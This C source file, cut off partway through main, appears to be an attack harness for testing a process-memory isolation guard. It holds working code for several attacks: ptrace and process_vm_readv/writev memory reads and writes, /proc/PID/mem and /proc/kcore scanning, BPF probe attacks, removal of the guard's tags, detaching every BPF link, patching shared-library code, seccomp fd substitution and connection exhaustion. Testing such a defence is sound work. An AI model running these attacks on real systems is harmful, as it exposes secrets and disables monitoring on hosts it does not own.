/* SPDX-License-Identifier: Apache-2.0 */
/*
 * attack: one technique to read or write another process's memory, or to reach into it.
 *   attack [--uid N] MODE ARGS…
 *     attach PID ADDR | seize PID ADDR    ptrace, then PEEKDATA the secret (ADDR 0: attach only)
 *     vmread PID ADDR | vmwrite PID ADDR  process_vm_readv / process_vm_writev
 *     mem PATH ADDR                       open(PATH) (a /proc/…/mem path in any form), read + write
 *     memdirfd PID ADDR                   openat(open("/proc/PID"), "mem")
 *     iouring PATH ADDR                   IORING_OP_OPENAT + IORING_OP_READ of PATH
 *     getfd PID FD                        pidfd_getfd
 *     sigqueue PID                        sigqueue(SIGUSR2) with a payload (an "APC")
 *     sigio PID                           F_SETOWN + F_SETSIG(SIGUSR2) on a pipe, then a write: a
 *                                         queued signal with a payload from a file (exit 0 = sent)
 *     oldfd PATH ADDR r|w                 opens PATH (a /proc/P/mem-like file), prints "opened",
 *                                         waits for a line on stdin, then reads or writes at ADDR
 *     perf PID|cpu                        samples PID (or every CPU) with the user stack; 0 = the
 *                                         secret showed up in the samples within 3 s
 *     uprobepmu PATH OFFSET               perf_event_open on the uprobe PMU (exit 0 = opened)
 *     kcore INVHEX [ram]                  scans /proc/kcore's RAM and kernel image for the bytes
 *                                         (1 to 64) whose bitwise inverse is INVHEX (0 = found, 3 = not
 *                                         found); "ram": only the direct map of RAM
 *     grepfile PATH INVHEX                the same search in a file (a core dump): 0 found, 3 not
 *     scanmem PID INVHEX mem|vm           the same search in every readable region of PID (its
 *                                         maps), read through /proc/PID/mem or process_vm_readv
 *     keyfile PATH                        writes a new 32-byte key made in secret memory to PATH
 *                                         (0600), prints its inverse in hex (4: no secret memory)
 *     heapkey INVHEX                      the control: holds the secret in heap memory until
 *                                         stdin closes
 *     holdconns SOCKET N                  opens N connections to the SOCK_SEQPACKET socket and
 *                                         holds them idle until stdin closes
 *     bpf KIND PID ADDR [BINARY]          loads evil.bpf.o (next to this program) program KIND
 *                                         (tp_read tp_write rawtp_read kprobe_read uprobe_read
 *                                         iter_read; socket_filter, lsm_load: only loads), prints
 *                                         "attached"; 0 = it read (or wrote)
 *                                         the secret within 5 s (uprobe_read: ADDR is the
 *                                         victim's "hook", the file offset of compare_secret in
 *                                         BINARY, the victim's executable)
 *     untag pin PATH PID | untag id - PID deletes PID's entry from the guard's tag map, found by
 *                                         its pin or among all map ids (BPF_MAP_DELETE_ELEM with
 *                                         a pidfd key)
 *     links                               tries to take every BPF link on the machine off its
 *                                         hook: BPF_LINK_GET_FD_BY_ID, then BPF_LINK_DETACH and
 *                                         BPF_LINK_UPDATE to a socket filter; 0 = one went (1: none
 *                                         did, each refused; 2: no link found). For the test VM:
 *                                         on a host it would detach any other program's link that
 *                                         lets it
 *     code HOW LIB                        changes lib_answer() of LIB (a copy of libsidedoor.so)
 *                                         from "return 42" to "return 1337". HOW: open (a new
 *                                         O_WRONLY open), write, truncate, ftruncate, fallocate,
 *                                         copy, mmap (the last five through an fd opened first:
 *                                         prints "opened", waits for a line on stdin)
 *     supervise PATH CMD…                 runs CMD under a seccomp user-notification filter on
 *                                         openat; an open with flags O_RDONLY|O_NOFOLLOW (the
 *                                         victim's "open") gets an fd of PATH instead
 *                                         (SECCOMP_IOCTL_NOTIF_ADDFD)
 *     kmod FILE | kexec FILE              finit_module / kexec_file_load of FILE
 *     devmem PATH                         opens PATH (/dev/mem, /dev/port)
 * Exit status: 0 the attack worked, 1 it was refused with EPERM/EACCES, 2 another failure.
 * (A caller killed by the kill backend exits with 137 as seen by the shell.)
 */
#define _GNU_SOURCE
#include <bpf/bpf.h>
#include <bpf/libbpf.h>
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/filter.h>
#include <linux/perf_event.h>
#include <linux/seccomp.h>
#include <liburing.h>
#include <poll.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
#include <asm/perf_regs.h>

static const char payload[] = "PWNED";

static int refused(const char *what, int err) {
    printf("%s: %s\n", what, strerror(err));
    return err == EPERM || err == EACCES ? 1 : 2;
}

static int worked(const char *what) {
    printf("%s: worked\n", what);
    return 0;
}

static int via_ptrace(pid_t pid, unsigned long addr, int seize) {
    long r = seize ? ptrace(PTRACE_SEIZE, pid, 0, 0) : ptrace(PTRACE_ATTACH, pid, 0, 0);
    if (r != 0) return refused(seize ? "PTRACE_SEIZE" : "PTRACE_ATTACH", errno);
    if (seize) ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    waitpid(pid, NULL, __WALL);
    if (!addr) {
        ptrace(PTRACE_DETACH, pid, 0, 0);
        return worked("ptrace attach");
    }
    errno = 0;
    long word = ptrace(PTRACE_PEEKDATA, pid, (void *)addr, 0);
    int ok = errno == 0;
    ptrace(PTRACE_DETACH, pid, 0, 0);
    (void)word;
    return ok ? worked("ptrace peek") : refused("PTRACE_PEEKDATA", errno);
}

static int via_vm(pid_t pid, unsigned long addr, int write) {
    char buf[sizeof payload];
    struct iovec local = {write ? (void *)payload : buf, sizeof payload};
    struct iovec remote = {(void *)addr, sizeof payload};
    ssize_t n = write ? process_vm_writev(pid, &local, 1, &remote, 1, 0) : process_vm_readv(pid, &local, 1, &remote, 1, 0);
    if (n < 0) return refused(write ? "process_vm_writev" : "process_vm_readv", errno);
    return worked(write ? "process_vm_writev" : "process_vm_readv");
}

static int via_fd(int fd, const char *what, unsigned long addr) {
    if (fd < 0) return refused(what, errno);
    char buf[8];
    if (pread(fd, buf, sizeof buf, (off_t)addr) < 0) return refused("pread", errno);
    close(fd);
    return worked(what);
}

static int via_iouring(const char *path, unsigned long addr) {
    struct io_uring ring;
    if (io_uring_queue_init(4, &ring, 0) < 0) return 2;
    struct io_uring_sqe *sqe = io_uring_get_sqe(&ring);
    io_uring_prep_openat(sqe, AT_FDCWD, path, O_RDONLY, 0);
    io_uring_submit(&ring);
    struct io_uring_cqe *cqe;
    io_uring_wait_cqe(&ring, &cqe);
    int fd = cqe->res;
    io_uring_cqe_seen(&ring, cqe);
    if (fd < 0) return refused("io_uring openat", -fd);
    char buf[8];
    sqe = io_uring_get_sqe(&ring);
    io_uring_prep_read(sqe, fd, buf, sizeof buf, addr);
    io_uring_submit(&ring);
    io_uring_wait_cqe(&ring, &cqe);
    int n = cqe->res;
    io_uring_cqe_seen(&ring, cqe);
    io_uring_queue_exit(&ring);
    return n < 0 ? refused("io_uring read", -n) : worked("io_uring openat+read");
}

static void wait_for_go(void) {
    puts("opened");
    char line[16];
    if (!fgets(line, sizeof line, stdin)) exit(2);
}

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static int via_sigio(pid_t pid) {
    int p[2];
    if (pipe(p)) return 2;
    if (fcntl(p[0], F_SETOWN, pid)) return refused("F_SETOWN", errno);
    if (fcntl(p[0], F_SETSIG, SIGUSR2)) return refused("F_SETSIG", errno);
    if (fcntl(p[0], F_SETFL, O_ASYNC | O_NONBLOCK)) return refused("O_ASYNC", errno);
    if (write(p[1], "x", 1) != 1) return 2;
    usleep(100000);
    return worked("SIGIO sent");
}

static int via_oldfd(const char *path, unsigned long addr, int write) {
    int fd = open(path, O_RDWR);
    if (fd < 0) fd = open(path, O_RDONLY);
    if (fd < 0) return refused(path, errno);
    wait_for_go();
    char buf[sizeof payload];
    ssize_t n = write ? pwrite(fd, payload, sizeof payload, (off_t)addr) : pread(fd, buf, sizeof buf, (off_t)addr);
    if (n < 0) return refused(write ? "pwrite (old fd)" : "pread (old fd)", errno);
    return worked(write ? "write through the old fd" : "read through the old fd");
}

/* Scans a buffer for the secret. */
static int has_secret(const void *data, size_t len) { return memmem(data, len, "IUM-SECRET", 10) != NULL; }

static int via_perf(const char *who) {
    int cpu_wide = !strcmp(who, "cpu");
    long ncpu = cpu_wide ? sysconf(_SC_NPROCESSORS_ONLN) : 1;
    struct perf_event_attr a = {0};
    a.size = sizeof a;
    a.type = PERF_TYPE_SOFTWARE;
    a.config = PERF_COUNT_SW_CPU_CLOCK;
    a.sample_period = 200000; /* ns */
    a.sample_type = PERF_SAMPLE_TID | PERF_SAMPLE_REGS_USER | PERF_SAMPLE_STACK_USER;
    a.sample_regs_user = (1ULL << PERF_REG_X86_SP) | (1ULL << PERF_REG_X86_IP);
    a.sample_stack_user = 4096;
    a.exclude_kernel = 1;
    a.exclude_hv = 1;
    size_t pages = 1 + 64, page = (size_t)sysconf(_SC_PAGESIZE);
    void *rings[64];
    for (long c = 0; c < ncpu && c < 64; c++) {
        int fd = (int)syscall(SYS_perf_event_open, &a, cpu_wide ? -1 : atoi(who), cpu_wide ? (int)c : -1, -1, 0);
        if (fd < 0) return refused("perf_event_open", errno);
        rings[c] = mmap(NULL, pages * page, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
        if (rings[c] == MAP_FAILED) return refused("perf mmap", errno);
    }
    puts("attached");
    for (double end = now() + 3; now() < end; usleep(50000))
        for (long c = 0; c < ncpu && c < 64; c++) {
            struct perf_event_mmap_page *meta = rings[c];
            uint64_t head = __atomic_load_n(&meta->data_head, __ATOMIC_ACQUIRE);
            if (has_secret((char *)rings[c] + page, (pages - 1) * page)) return worked("perf: the secret is in the sampled user stack");
            __atomic_store_n(&meta->data_tail, head, __ATOMIC_RELEASE); /* scanned: room for new samples */
        }
    printf("perf: samples taken, no secret in them\n");
    return 3;
}

static int via_uprobe_pmu(const char *path, unsigned long offset) {
    FILE *f = fopen("/sys/bus/event_source/devices/uprobe/type", "r");
    int type = -1;
    if (!f || fscanf(f, "%d", &type) != 1) return 2;
    fclose(f);
    struct perf_event_attr a = {0};
    a.size = sizeof a;
    a.type = (unsigned)type;
    a.config1 = (unsigned long)path;
    a.config2 = offset;
    int fd = (int)syscall(SYS_perf_event_open, &a, -1, 0, -1, 0);
    return fd < 0 ? refused("perf_event_open (uprobe PMU)", errno) : worked("uprobe PMU event");
}

static int hexval(char c) { return c >= 'a' ? c - 'a' + 10 : c >= 'A' ? c - 'A' + 10 : c - '0'; }

/* A secret searched for, kept inverted: this process never holds the secret unless it finds it. */
struct pattern {
    unsigned char inv[64];
    size_t n;
};

/* INVHEX: the secret's bitwise inverse in hex, 1 to 64 bytes. */
static int parse_inverted(const char *invhex, struct pattern *pat) {
    size_t len = strlen(invhex);
    if (len == 0 || len % 2 || len > 2 * sizeof pat->inv) return -1;
    pat->n = len / 2;
    for (size_t i = 0; i < pat->n; i++) pat->inv[i] = (unsigned char)(hexval(invhex[2 * i]) << 4 | hexval(invhex[2 * i + 1]));
    return 0;
}

/* Where in buf[0..len) the secret starts, or NULL. */
static const unsigned char *find_inverted(const unsigned char *buf, size_t len, const struct pattern *pat) {
    size_t n = pat->n;
    if (len < n) return NULL;
    for (const unsigned char *p = buf; (p = memchr(p, (unsigned char)~pat->inv[0], (size_t)(buf + len - n + 1 - p))) != NULL; p++) {
        size_t k = 1;
        while (k < n && (unsigned char)~p[k] == pat->inv[k]) k++;
        if (k == n) return p;
    }
    return NULL;
}

static int via_grepfile(const char *path, const char *invhex) {
    struct pattern pat;
    if (parse_inverted(invhex, &pat)) return 2;
    int fd = open(path, O_RDONLY);
    if (fd < 0) return refused(path, errno);
    size_t chunk = 1 << 20;
    unsigned char *buf = malloc(chunk + pat.n);
    off_t at = 0;
    ssize_t got;
    while ((got = pread(fd, buf, chunk + pat.n, at)) >= (ssize_t)pat.n) {
        const unsigned char *p = find_inverted(buf, (size_t)got, &pat);
        if (p) {
            printf("%s: the secret is at offset %ld\n", path, (long)(at + (p - buf)));
            return 0;
        }
        at += (off_t)chunk;
    }
    printf("%s: not found (%ld KiB)\n", path, (long)(at >> 10));
    return 3;
}

static int via_kcore(const char *invhex, int ram_only) {
    struct pattern pat;
    if (parse_inverted(invhex, &pat)) return 2;
    size_t n = pat.n;
    int fd = open("/proc/kcore", O_RDONLY);
    if (fd < 0) return refused("/proc/kcore", errno);
    Elf64_Ehdr eh;
    if (pread(fd, &eh, sizeof eh, 0) != sizeof eh) return refused("read /proc/kcore", errno);
    size_t chunk = 1 << 20;
    unsigned char *buf = malloc(chunk + n);
    double start = now();
    unsigned long scanned = 0;
    for (int i = 0; i < eh.e_phnum; i++) {
        Elf64_Phdr ph;
        if (pread(fd, &ph, sizeof ph, (off_t)(eh.e_phoff + (unsigned long)i * eh.e_phentsize)) != sizeof ph) break;
        /* RAM and the kernel image; not the vmalloc or vmemmap areas (terabytes of holes). */
        if (ph.p_type != PT_LOAD || ph.p_memsz > (16UL << 30)) continue;
        if (ram_only && ph.p_vaddr >= 0xffffffff80000000UL) continue; /* __START_KERNEL_map */
        for (unsigned long off = 0; off < ph.p_memsz; off += chunk) {
            ssize_t got = pread(fd, buf, chunk + n, (off_t)(ph.p_offset + off));
            if (got < (ssize_t)n) continue;
            scanned += (unsigned long)got;
            const unsigned char *p = find_inverted(buf, (size_t)got, &pat);
            if (p) {
                printf("kcore: the secret is at kernel address 0x%lx (%lu MiB scanned in %.1fs)\n",
                       (unsigned long)(ph.p_vaddr + off + (unsigned long)(p - buf)), scanned >> 20, now() - start);
                return 0;
            }
        }
    }
    printf("kcore: not found (%lu MiB scanned)\n", scanned >> 20);
    return 3;
}

/* The whole memory of PID searched for the secret, as a dump tool would: the regions from
 * /proc/PID/maps, each read through /proc/PID/mem (HOW "mem") or process_vm_readv ("vm").
 * Where maps itself is refused, one read at an arbitrary address shows whether the read
 * itself is refused too (it must be: the answer is then 1, or death under the kill backend). */
static int via_scanmem(pid_t pid, const char *invhex, const char *how) {
    struct pattern pat;
    if (parse_inverted(invhex, &pat)) return 2;
    int vm = !strcmp(how, "vm");
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int mem = vm ? -1 : open(path, O_RDONLY);
    if (!vm && mem < 0) return refused(path, errno);
    snprintf(path, sizeof path, "/proc/%d/maps", pid);
    FILE *maps = fopen(path, "r");
    size_t chunk = 1 << 20;
    unsigned char *buf = malloc(chunk);
    if (!maps) {
        int err = errno;
        ssize_t got = vm ? process_vm_readv(pid, &(struct iovec){buf, 4096}, 1, &(struct iovec){(void *)0x10000, 4096}, 1, 0)
                         : pread(mem, buf, 4096, 0x10000);
        if (got < 0 && (errno == EPERM || errno == EACCES)) return refused(vm ? "process_vm_readv" : "read /proc/PID/mem", errno);
        printf("%s refused (%s), but a read was not (%s)\n", path, strerror(err), got < 0 ? strerror(errno) : "it read");
        return 2;
    }
    unsigned long from, to, scanned = 0, unreadable = 0;
    char perms[8], line[512];
    while (fgets(line, sizeof line, maps)) {
        if (sscanf(line, "%lx-%lx %7s", &from, &to, perms) != 3 || perms[0] != 'r') continue;
        for (unsigned long at = from; at < to; at += chunk) {
            size_t want = to - at < chunk ? to - at : chunk;
            ssize_t got = vm ? process_vm_readv(pid, &(struct iovec){buf, want}, 1, &(struct iovec){(void *)at, want}, 1, 0)
                             : pread(mem, buf, want, (off_t)at);
            if (got < 0 && (errno == EPERM || errno == EACCES)) return refused(vm ? "process_vm_readv" : "read /proc/PID/mem", errno);
            if (got <= 0) { unreadable += want; continue; }
            scanned += (unsigned long)got;
            /* a secret across two chunks of one region is found by the overlapping next read */
            const unsigned char *p = find_inverted(buf, (size_t)got, &pat);
            if (p) {
                printf("scanmem: the secret is at 0x%lx (%s)\n", at + (unsigned long)(p - buf), how);
                return 0;
            }
            if (got == (ssize_t)want && to - at > chunk) at -= pat.n;
        }
    }
    printf("scanmem: not found (%lu KiB read, %lu KiB unreadable, %s)\n", scanned >> 10, unreadable >> 10, how);
    return 3;
}

/* A new 32-byte key, generated in secret memory and written to PATH (0600, new): what the key
 * is, only its inverse is printed. Exit 4: no secret memory here. */
static int make_keyfile(const char *path) {
    int sfd = (int)syscall(SYS_memfd_secret, 0);
    if (sfd < 0) { printf("memfd_secret: %s\n", strerror(errno)); return 4; }
    unsigned char *key = ftruncate(sfd, 4096) ? MAP_FAILED : mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, sfd, 0);
    int random = open("/dev/urandom", O_RDONLY);
    if (key == MAP_FAILED || random < 0 || read(random, key, 32) != 32) { perror("key"); return 2; }
    int fd = open(path, O_WRONLY | O_CREAT | O_EXCL, 0600);
    if (fd < 0 || write(fd, key, 32) != 32 || close(fd)) { perror(path); return 2; }
    char inv[65];
    for (int i = 0; i < 32; i++) snprintf(inv + 2 * i, 3, "%02x", (unsigned char)~key[i]);
    puts(inv);
    return 0;
}

/* The control: the secret whose inverse is INVHEX in ordinary heap memory, until stdin closes. */
static int hold_in_heap(const char *invhex) {
    struct pattern pat;
    if (parse_inverted(invhex, &pat)) return 2;
    unsigned char *held = malloc(pat.n);
    for (size_t i = 0; i < pat.n; i++) held[i] = (unsigned char)~pat.inv[i];
    printf("holding %zu bytes at %p\n", pat.n, (void *)held);
    char c;
    while (read(0, &c, 1) > 0) {}
    return 0;
}

/* Opens n SOCK_SEQPACKET connections to the Unix socket at path and holds them, idle, until
 * stdin closes (a peer trying to use up a server's connection slots). */
static int hold_connections(const char *path, int n) {
    struct sockaddr_un sa = {.sun_family = AF_UNIX};
    snprintf(sa.sun_path, sizeof sa.sun_path, "%s", path);
    for (int i = 0; i < n; i++) {
        int fd = socket(AF_UNIX, SOCK_SEQPACKET, 0);
        if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof sa) != 0) { perror("connect"); return 2; }
    }
    printf("holding %d connections\n", n);
    fflush(stdout);
    char c;
    while (read(0, &c, 1) > 0) {}
    return 0;
}

static int via_bpf(const char *kind, pid_t pid, unsigned long addr, const char *binary) {
    char self[PATH_MAX], path[PATH_MAX + 16];
    ssize_t len = readlink("/proc/self/exe", self, sizeof self - 1);
    if (len < 0) return 2;
    self[len] = 0;
    snprintf(path, sizeof path, "%.*s/evil.bpf.o", (int)(strrchr(self, '/') - self), self);
    libbpf_set_print(NULL);
    struct bpf_object *obj = bpf_object__open_file(path, NULL);
    if (!obj) { fprintf(stderr, "cannot open %s\n", path); return 2; }
    struct bpf_program *prog, *chosen = NULL;
    bpf_object__for_each_program(prog, obj) {
        int mine = !strcmp(bpf_program__name(prog), kind);
        bpf_program__set_autoload(prog, mine);
        if (mine) chosen = prog;
    }
    if (!chosen) { fprintf(stderr, "no program %s\n", kind); return 64; }
    int err = bpf_object__load(obj);
    if (err) return refused("BPF program load", -err);
    if (!strcmp(kind, "socket_filter") || !strcmp(kind, "lsm_load")) return worked("loaded");
    unsigned zero = 0;
    struct { unsigned tgid, pad; unsigned long addr; } config = {(unsigned)pid, 0, addr};
    if (bpf_map_update_elem(bpf_map__fd(bpf_object__find_map_by_name(obj, "config")), &zero, &config, 0)) return 2;
    struct bpf_link *link;
    if (!strcmp(kind, "uprobe_read")) {
        /* ADDR is compare_secret's file offset (the victim's "hook"); it reads argument 1 */
        link = bpf_program__attach_uprobe(chosen, false, -1, binary, addr);
    } else {
        link = bpf_program__attach(chosen);
    }
    if (!link) return refused("BPF attach", errno);
    struct { unsigned hits, pad; char bytes[32]; } result = {0};
    int result_fd = bpf_map__fd(bpf_object__find_map_by_name(obj, "result"));
    puts("attached");
    for (double end = now() + 5; now() < end; usleep(20000)) {
        if (!strcmp(kind, "iter_read")) {
            int it = bpf_iter_create(bpf_link__fd(link));
            char sink[256];
            while (it >= 0 && read(it, sink, sizeof sink) > 0) {}
            if (it >= 0) close(it);
        }
        if (bpf_map_lookup_elem(result_fd, &zero, &result)) return 2;
        if (result.hits) {
            if (strstr(kind, "write")) return worked("BPF: overwrote the secret");
            result.bytes[21] = 0;
            printf("BPF: read \"%s\"\n", result.bytes);
            return has_secret(result.bytes, 21) ? 0 : 3;
        }
    }
    printf("BPF: attached, never reached the secret\n");
    return 3;
}

/* The guard's tag map among all maps, by id (BPF_MAP_GET_FD_BY_ID on each): its fd, or -1
 * with errno EPERM when some map's fd was refused and none was the tag map. */
static int tag_map_by_id(void) {
    unsigned id = 0;
    int refused_any = 0;
    while (bpf_map_get_next_id(id, &id) == 0) {
        int fd = bpf_map_get_fd_by_id(id);
        if (fd < 0) { refused_any |= errno == EPERM || errno == EACCES; continue; }
        struct bpf_map_info info = {0};
        unsigned len = sizeof info;
        if (bpf_obj_get_info_by_fd(fd, &info, &len) == 0 && !strcmp(info.name, "ium_tags")) return fd;
        close(fd);
    }
    errno = refused_any ? EPERM : ENOENT;
    return -1;
}

static int via_untag(const char *how, const char *where, pid_t pid) {
    int fd = !strcmp(how, "pin") ? bpf_obj_get(where) : tag_map_by_id();
    if (fd < 0) return refused(!strcmp(how, "pin") ? "BPF_OBJ_GET (tag map pin)" : "BPF_MAP_GET_FD_BY_ID (tag map)", errno);
    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    if (pidfd < 0) return 2;
    if (bpf_map_delete_elem(fd, &pidfd)) return refused("BPF_MAP_DELETE_ELEM", errno);
    return worked("untagged");
}

/* Every link: its fd by id, then detach it, or replace its program with a socket filter (a
 * type sealed mode lets load). Prints what the kernel said to each. */
static int via_links(void) {
    struct bpf_insn ret0[] = {{.code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0}, {.code = BPF_JMP | BPF_EXIT}};
    int filter = bpf_prog_load(BPF_PROG_TYPE_SOCKET_FILTER, "ium_attack", "GPL", ret0, 2, NULL);
    if (filter < 0) return refused("BPF_PROG_LOAD (socket filter)", errno);
    unsigned id = 0, tried = 0;
    while (bpf_link_get_next_id(id, &id) == 0) {
        tried++;
        int fd = bpf_link_get_fd_by_id(id);
        if (fd < 0) { printf("link %u: BPF_LINK_GET_FD_BY_ID: %s\n", id, strerror(errno)); continue; }
        struct bpf_link_info info = {0};
        unsigned len = sizeof info;
        bpf_obj_get_info_by_fd(fd, &info, &len);
        if (bpf_link_detach(fd) == 0) { printf("link %u (type %u, program %u): ", id, info.type, info.prog_id); return worked("detached"); }
        printf("link %u (type %u, program %u): BPF_LINK_DETACH: %s", id, info.type, info.prog_id, strerror(errno));
        if (bpf_link_update(fd, filter, NULL) == 0) { printf("\n"); return worked("replaced"); }
        printf(", BPF_LINK_UPDATE: %s\n", strerror(errno));
        close(fd);
    }
    if (!tried) { printf("no BPF link on this machine\n"); return 2; }
    printf("%u links, none detached or replaced\n", tried);
    return 1;
}

/* lib_answer() compiled: mov $42,%eax; ret → mov $1337,%eax; ret */
static const unsigned char answer42[] = {0xb8, 0x2a, 0x00, 0x00, 0x00, 0xc3};
static const unsigned char answer1337[] = {0xb8, 0x39, 0x05, 0x00, 0x00, 0xc3};

static int via_code(const char *how, const char *lib) {
    FILE *f = fopen(lib, "rb");
    if (!f) return refused(lib, errno);
    static unsigned char image[1 << 20];
    size_t size = fread(image, 1, sizeof image, f);
    fclose(f);
    unsigned char *at = memmem(image, size, answer42, sizeof answer42);
    if (!at) { fprintf(stderr, "%s: no lib_answer code\n", lib); return 2; }
    off_t offset = at - image;
    int fd = -1;
    if (strcmp(how, "open") && strcmp(how, "truncate")) {
        fd = open(lib, O_RDWR);
        if (fd < 0) return refused("open O_RDWR", errno);
        wait_for_go();
    }
    if (!strcmp(how, "open")) {
        fd = open(lib, O_WRONLY);
        if (fd < 0) return refused("open O_WRONLY", errno);
        return pwrite(fd, answer1337, sizeof answer1337, offset) < 0 ? refused("pwrite", errno) : worked("patched");
    }
    if (!strcmp(how, "write"))
        return pwrite(fd, answer1337, sizeof answer1337, offset) < 0 ? refused("pwrite (old fd)", errno) : worked("patched");
    if (!strcmp(how, "truncate")) return truncate(lib, 0) ? refused("truncate", errno) : worked("truncated");
    if (!strcmp(how, "ftruncate")) return ftruncate(fd, 0) ? refused("ftruncate", errno) : worked("truncated");
    if (!strcmp(how, "fallocate")) {
        off_t page = offset & ~(off_t)4095;
        return fallocate(fd, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, page, 4096) ? refused("fallocate", errno) : worked("hole punched");
    }
    if (!strcmp(how, "copy")) {
        char tmp[] = "/tmp/ium-patch.XXXXXX";
        int src = mkstemp(tmp);
        unlink(tmp);
        if (src < 0 || write(src, answer1337, sizeof answer1337) != sizeof answer1337) return 2;
        off_t in = 0, out = offset;
        return copy_file_range(src, &in, fd, &out, sizeof answer1337, 0) < 0 ? refused("copy_file_range", errno) : worked("patched");
    }
    if (!strcmp(how, "mmap")) {
        unsigned char *map = mmap(NULL, (size_t)size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
        if (map == MAP_FAILED) return refused("mmap MAP_SHARED PROT_WRITE", errno);
        memcpy(map + offset, answer1337, sizeof answer1337);
        msync(map, (size_t)size, MS_SYNC);
        return worked("patched");
    }
    fprintf(stderr, "code: unknown HOW %s\n", how);
    return 64;
}

/* A seccomp user-notification supervisor: the "man in the middle" of a program's openat. */
static int via_supervisor(const char *substitute, char **cmd) {
    struct sock_filter filter[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_openat, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog prog = {sizeof filter / sizeof filter[0], filter};
    int sv[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv)) return 2;
    pid_t child = fork();
    if (child == 0) {
        close(sv[0]);
        int listener = (int)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &prog);
        if (listener < 0) { perror("seccomp"); _exit(2); }
        /* hand the listener to the supervisor (SCM_RIGHTS) */
        char c = 0;
        struct iovec iov = {&c, 1};
        char control[CMSG_SPACE(sizeof(int))] = {0};
        struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
        struct cmsghdr *cm = CMSG_FIRSTHDR(&msg);
        cm->cmsg_level = SOL_SOCKET;
        cm->cmsg_type = SCM_RIGHTS;
        cm->cmsg_len = CMSG_LEN(sizeof(int));
        memcpy(CMSG_DATA(cm), &listener, sizeof listener);
        if (sendmsg(sv[1], &msg, 0) != 1) _exit(2);
        close(listener);
        close(sv[1]);
        execvp(cmd[0], cmd);
        _exit(127);
    }
    close(sv[1]);
    char c;
    struct iovec iov = {&c, 1};
    char control[CMSG_SPACE(sizeof(int))];
    struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
    if (recvmsg(sv[0], &msg, 0) != 1) return 2;
    int listener;
    memcpy(&listener, CMSG_DATA(CMSG_FIRSTHDR(&msg)), sizeof listener);
    int replacement = open(substitute, O_RDONLY);
    if (replacement < 0) return 2;
    struct seccomp_notif req;
    struct seccomp_notif_resp resp;
    for (;;) {
        int status;
        if (waitpid(child, &status, WNOHANG) == child) return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
        /* RECV blocks for good once no task uses the filter: wait for a notification first */
        struct pollfd p = {listener, POLLIN, 0};
        if (poll(&p, 1, 100) <= 0 || !(p.revents & POLLIN)) continue;
        memset(&req, 0, sizeof req);
        if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &req)) continue;
        memset(&resp, 0, sizeof resp);
        resp.id = req.id;
        /* The victim's "open" is the only openat with exactly O_RDONLY|O_NOFOLLOW (no need to
         * read its memory: the flags are in the notification). */
        if ((int)req.data.args[2] == (O_RDONLY | O_NOFOLLOW)) {
            struct seccomp_notif_addfd addfd = {.id = req.id, .flags = SECCOMP_ADDFD_FLAG_SEND, .srcfd = (unsigned)replacement};
            if (ioctl(listener, SECCOMP_IOCTL_NOTIF_ADDFD, &addfd) >= 0) continue;
        }
        resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
        ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &resp);
    }
}

int main(int argc, char **argv) {
    int a = 1;
    if (argc > 3 && !strcmp(argv[1], "--uid")) {
        uid_t uid = (uid_t)atoi(argv[2]);
        if (setgid(uid) || setuid(uid)) { perror("setuid"); return 2; }
        a = 3;
    }
    if (argc - a == 1 && !strcmp(argv[a], "links")) {
        setvbuf(stdout, NULL, _IOLBF, 0);
        return via_links();
    }
    if (argc - a < 2) { fprintf(stderr, "usage: attack [--uid N] MODE ARGS\n"); return 64; }
    const char *mode = argv[a];
    const char *x = argv[a + 1];
    unsigned long addr = argc - a > 2 ? strtoul(argv[a + 2], NULL, 0) : 0;
    pid_t pid = (pid_t)atoi(x);
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (!strcmp(mode, "attach")) return via_ptrace(pid, addr, 0);
    if (!strcmp(mode, "seize")) return via_ptrace(pid, addr, 1);
    if (!strcmp(mode, "vmread")) return via_vm(pid, addr, 0);
    if (!strcmp(mode, "vmwrite")) return via_vm(pid, addr, 1);
    if (!strcmp(mode, "mem")) return via_fd(open(x, O_RDONLY), x, addr);
    if (!strcmp(mode, "memdirfd")) {
        char dir[64];
        snprintf(dir, sizeof dir, "/proc/%d", pid);
        int d = open(dir, O_RDONLY | O_DIRECTORY);
        return via_fd(d < 0 ? -1 : openat(d, "mem", O_RDONLY), "openat(/proc/PID, mem)", addr);
    }
    if (!strcmp(mode, "iouring")) return via_iouring(x, addr);
    if (!strcmp(mode, "getfd")) {
        int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
